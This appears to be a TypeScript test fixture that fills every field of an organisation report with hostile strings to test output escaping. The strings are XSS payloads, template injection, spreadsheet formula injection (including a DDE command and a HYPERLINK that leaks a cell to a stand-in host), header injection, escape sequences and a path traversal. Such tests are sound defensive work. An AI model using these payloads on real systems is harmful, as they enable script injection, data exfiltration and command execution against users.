/**
 * Texts that mean harm, and an organisation that holds one in every field that a source or a configuration fills.
 */
import type { Person } from "@rollcall/model"
import type { ReportInput } from "@rollcall/report"
import { aCheck, aDevice, aFinding, anEmployee, anInput, aPerson } from "./builders.ts"

/** Texts by what they try. */
export const hostileTexts = {
  script: "<script>alert(1)</script>",
  "image with a handler": '"><img src=x onerror=alert(1)>',
  "end of a style": "</style><style>*{display:none}</style>",
  "end of a title": "</title></head><body onload=alert(1)>",
  comment: "<!-- ]]> --><![CDATA[",
  entity: "&lt;b&gt; &#60;i&#62; &amp;",
  template: "{{constructor.constructor('return process')()}}",
  "raw template": "{{{x}}}",
  address: "javascript:alert(1)",
  "Markdown address": "[here](javascript:alert(1)) ![](https://collect.example/x)",
  formula: "=cmd|' /C calc'!A0",
  "formula of an address": '=HYPERLINK("https://collect.example/?"&A1,"here")',
  plus: "+1+1",
  minus: "-2+3",
  at: "@SUM(A1:A9)",
  tab: "\t=1+1",
  "carriage return": "\r=1+1",
  "formula after blanks": "  =1+1",
  "formula after an invisible mark": "\u200b=1+1",
  "full-width equals": "＝1+1",
  "full-width plus": "＋1+1",
  "full-width minus": "－1+1",
  "full-width at": "＠SUM(A1)",
  "new record": 'x","y"\r\n=1+1,=2+2',
  "new header": "x\r\nSet-Cookie: a=b",
  "escape sequences": "\u001b[2J\u001b]0;owned\u0007",
  "control characters": "a\u0000b\u0008c\u007fd\u0085e",
  "right-to-left override": "Anna\u202egpj.exe",
  isolates: "\u2066\u2067Anna\u2069",
  "high surrogate": "a\ud800b",
  "low surrogate": "a\udc00b",
  "non-characters": "a\ufffeb\uffff",
  "escaped for a workbook": "_x000D__x0041_",
  "member of every object": "__proto__",
  "another member": "constructor",
  "path upwards": "../../../etc/passwd",
  "line separators": "a\u2028b\u2029c",
  "ten thousand characters": "W".repeat(10_000),
  "ten thousand marks": `Z${"\u0301".repeat(10_000)}`
} as const

/** A report on an organisation in which every text is one of these, each of them somewhere in each kind of field. */
export function hostileInput(texts: ReadonlyArray<string>): ReportInput {
  const people = texts.map((text, index) => hostilePerson(text, String(index)))
  const failing = people.flatMap((person, index) => {
    const text = texts[index] ?? ""
    const [device] = person.devices
    return [
      { subject: { kind: "account" as const, id: text, email: text }, detail: `Account ${text} of ${text} is bad.` },
      { subject: { kind: "device" as const, id: device?.DeviceID ?? "", email: text }, detail: text },
      { subject: { kind: "app" as const, id: text, email: null }, detail: text }
    ]
  })
  const nobodys = texts.map((text, index) => aDevice(`nobodys-${index}`, { DeviceFriendlyName: text, Model: text }))
  const input = anInput(people, {
    roster: {
      unowned: {
        devices: nobodys,
        findings: texts.map((text, index) => aFinding(`nobodys-${index}`, { appType: text }))
      },
      correlation: {
        ambiguousEmails: texts.map((text) => ({ email: text, employeeIds: [text, "other"] })),
        disagreements: texts.map((text) => ({
          kind: "account",
          id: text,
          employeeId: text,
          email: text,
          emailEmployeeId: text
        }))
      }
    },
    assessment: {
      checks: [
        aCheck("account-mfa-missing", { population: failing.length, fail: failing.length, failures: failing }),
        aCheck("device-dormant", { population: failing.length, excepted: failing.length, exceptions: failing })
      ],
      exceptions: texts.map((text) => ({
        check: "device-dormant",
        subject: text,
        reason: text,
        approvedBy: text,
        expires: "2026-12-31",
        state: "applied",
        covers: 1
      }))
    }
  })
  return { ...input, tenant: { ...input.tenant, name: texts.join(" ") } }
}

const hostilePerson = (text: string, id: string): Person =>
  aPerson({
    email: text,
    emails: [text, `also ${text}`],
    name: text,
    employee: anEmployee(`employee-${id}`, { email: text, firstName: text, department: text, location: text }),
    browsers: [{ id: text, browser: text, os: text, profileEmail: text }],
    accounts: [{ id: text, email: text, appType: text, appId: text, employeeId: text }],
    accountsOther: [{ id: text, email: text, otherAppId: text }],
    findings: [aFinding(`finding-${id}`, { type: text, state: text, appType: text, appId: text, accountId: text })],
    endusers: [{ Name: text, Email: text, Groups: text }],
    devices: [
      aDevice(`device-${id}`, {
        SerialNumber: text,
        DeviceFriendlyName: text,
        Emails: [text],
        Platform: text,
        OS: text,
        Model: text,
        Ownership: text,
        LastLogin: text,
        trust: { value: 1, level: text }
      })
    ],
    links: [{ kind: "device", id: text, by: "email" }]
  })
